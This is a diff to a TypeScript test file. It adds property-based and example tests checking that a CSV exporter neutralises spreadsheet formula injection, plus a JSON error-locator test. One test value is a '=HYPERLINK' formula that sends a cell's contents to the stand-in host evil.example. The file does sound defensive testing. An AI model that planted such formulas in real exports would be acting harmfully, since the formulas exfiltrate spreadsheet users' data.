@@ -1,6 +1,7 @@
 import { test, describe } from 'node:test';
 import assert from 'node:assert/strict';
 import fc from 'fast-check';
+import Papa from 'papaparse';
 import { CacheSnapshot, compareCodeUnits, type CachedProject } from '../../src/core/customerTypeCache';
 import {
   exportCsv,
@@ -386,5 +387,71 @@ describe('export → import round trip (property)', () => {
       }),
       { numRuns: 300 },
     );
+  });
+});
+
+describe('spreadsheet formulas in CSV exports', () => {
+  // papaparse's escapeFormulae characters: a cell starting with one of them is run by Excel.
+  const FORMULA_START = /^[=+\-@\t\r]/;
+
+  /** The cells of an exported CSV as a spreadsheet sees them (quotes of the CSV syntax removed). */
+  function cellsOf(csv: string): string[] {
+    const parsed = Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { newline: '\r\n', skipEmptyLines: true });
+    assert.deepEqual(parsed.errors, []);
+    return parsed.data.flat();
+  }
+
+  function roundTrip(types: Array<[string, string]>, vbotId = 'v', projectCode = 'p') {
+    const snapshot = snapshotOf([{ vbotId, projectCode, types }]);
+    const csv = exportCsv(snapshot, vbotId, projectCode);
+    return { csv, rows: rowsOf(parseImportFile('export.csv', csv)), expected: snapshot.project(vbotId, projectCode)!.types.map((t) => row(vbotId, projectCode, t.typeNo, t.typeName)) };
+  }
+
+  test('spreadsheet formulas in CSV exports: =HYPERLINK, +, -, @ names are exported inert and imported back exactly', () => {
+    const names: Array<[string, string]> = [
+      ['A', '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'],
+      ['B', '+84 912 345 678'],
+      ['C', '-VIP-'],
+      ['D', '@SUM(1,2)'],
+      ['E', "'=already quoted"], // really starts with a quote: must come back with it
+      ['F', "''+two quotes"],
+      ['G', "'plain quote"], // a quote before no formula character is left alone
+      ['H', 'Khách = VIP'],
+      ['=1+1', 'code like a formula'],
+    ];
+    const { csv, rows, expected } = roundTrip(names, '-VB', '@P');
+    for (const cell of cellsOf(csv)) assert.doesNotMatch(cell, FORMULA_START, `an exported cell starts a formula: ${JSON.stringify(cell)}`);
+    assert.match(csv, /"'=HYPERLINK\(/);
+    assert.match(csv, /"''=already quoted"/);
+    assert.match(csv, /,'plain quote\r\n/);
+    assert.deepEqual(rows, expected);
+  });
+
+  test('spreadsheet formulas in CSV exports: any name round-trips and no cell starts a formula (property)', () => {
+    const start = fc.constantFrom('=', '+', '-', '@', "'", "''", "'=", "''-", '', 'a', ' ');
+    const rest = fc.string({ unit: 'grapheme', maxLength: 8 });
+    const value = (validate: (v: unknown) => { ok: boolean }) => fc.tuple(start, rest).map(([a, b]) => (a + b).trim()).filter((v) => validate(v).ok);
+    fc.assert(
+      fc.property(
+        value(validateVbotId),
+        value(validateProjectCode),
+        fc.uniqueArray(fc.tuple(value(validateTypeNo), value(validateTypeName)), { selector: ([typeNo]) => typeNo, maxLength: 10 }),
+        (vbotId, projectCode, types) => {
+          const { csv, rows, expected } = roundTrip(types, vbotId, projectCode);
+          for (const cell of cellsOf(csv)) assert.doesNotMatch(cell, FORMULA_START, `an exported cell starts a formula: ${JSON.stringify(cell)}`);
+          assert.deepEqual(rows, expected);
+        },
+      ),
+      { numRuns: 500 },
+    );
+  });
+});
+
+describe('bounded JSON error locator (import)', () => {
+  test('bounded JSON error locator: an import with an error JSON.parse names no position for still gets its line', () => {
+    // V8: "Unexpected token 'x', …"x"… is not valid JSON" (no position).
+    const text = '[\n  {"typeNo": "A", "typeName": "Ay"},\n  {"typeNo": "B", "typeName": x}\n]';
+    assert.throws(() => JSON.parse(text), (e: Error) => !/position/.test(e.message));
+    assert.deepEqual(codesOf(parseImportFile('x.json', text)), [[3, 'badJson']]);
   });
 });
